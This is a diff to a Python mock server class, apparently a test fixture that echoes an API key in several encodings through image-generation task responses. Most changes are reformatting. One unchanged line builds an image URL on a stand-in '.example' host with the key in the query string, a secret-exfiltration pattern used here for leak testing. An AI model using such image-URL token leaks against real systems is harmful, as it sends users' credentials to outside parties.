@@ -65,10 +65,8 @@ class Echoing(_Running):
         self._lines: list[bytes] = []
         echoing = self
         bare = key.removeprefix("sk-")
-        echo = " | ".join(
-            [key, bare, quote(key, safe=""), html.escape(key), base64.b64encode(f"Bearer {key}".encode()).decode(),
-             planted]
-        )  # fmt: skip
+        encoded = base64.b64encode(f"Bearer {key}".encode()).decode()
+        echo = " | ".join([key, bare, quote(key, safe=""), html.escape(key), encoded, planted])
         outside = f"https://{planted}.example/p.png?token={quote(key, safe='')}"
         pictures = {
             "outside": outside,
@@ -112,14 +110,27 @@ class Echoing(_Running):
                     self.close_connection = True
                     self.connection.shutdown(socket.SHUT_RDWR)
                 else:
-                    done = {"code": 1, "description": echo, "result": f"{way}-1", "properties": {"echo": echo}}
+                    done = {
+                        "code": 1,
+                        "description": echo,
+                        "result": f"{way}-1",
+                        "properties": {"echo": echo},
+                    }
                     self._send(200, done)
 
             def _task(self, name: str) -> dict[str, Any]:
-                way = name.split("-")[0]
-                task = {"id": name, "action": "IMAGINE", "prompt": echo, "promptEn": echo, "description": echo}
+                way = name.split("-", maxsplit=1)[0]
+                task = {
+                    "id": name,
+                    "action": "IMAGINE",
+                    "prompt": echo,
+                    "promptEn": echo,
+                    "description": echo,
+                }
                 task |= {"status": "SUCCESS", "progress": "100%", "properties": {"finalPrompt": echo}}
-                task["buttons"] = [{"customId": f"MJ::{echo}", "label": echo, "emoji": "", "type": 2, "style": 2}]
+                task["buttons"] = [
+                    {"customId": f"MJ::{echo}", "label": echo, "emoji": "", "type": 2, "style": 2}
+                ]
                 if way == "fail":
                     return task | {"status": "FAILURE", "failReason": echo}
                 home = f"http://127.0.0.1:{echoing.port}/mj/image/{name}?token={quote(key, safe='')}"
